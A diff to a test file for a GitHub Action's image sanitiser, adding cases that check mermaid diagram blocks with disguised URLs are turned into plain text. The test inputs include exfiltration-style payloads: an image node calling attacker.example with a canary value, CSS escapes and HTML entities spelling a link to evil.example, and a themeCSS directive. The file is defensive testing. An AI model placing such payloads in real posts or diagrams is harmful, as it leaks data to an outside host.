@@ -218,6 +218,10 @@ describe('the GitHub Action: images in what it posts', () => {
   it('turns a diagram block that mentions a URL or an image into plain code; other diagrams render', () => {
     const diagram = '```mermaid\nflowchart LR\n  A@{ img: "https://attacker.example/?d=CANARY" }\n```';
     expect(neutraliseImages(diagram, allows)).toBe('```text\nflowchart LR\n  A@{ img: "https://attacker.example/?d=CANARY" }\n```');
+    // Escapes and entities that spell `//` or `url(` without writing them, and init directives that set CSS.
+    for (const body of ['style A background:u\\72l(https:\\2f\\2f evil.example)', 'A["<b>https:&#47;&#47;evil.example</b>"]', '%%{init: {"themeCSS": ".x{}"}}%%']) {
+      expect(neutraliseImages(`\`\`\`mermaid\nflowchart LR\n  ${body}\n\`\`\``, allows)).toMatch(/^```text\n/);
+    }
     const plain = '```mermaid\nflowchart LR\n  A --> B\n```';
     expect(neutraliseImages(plain, allows)).toBe(plain);
   });
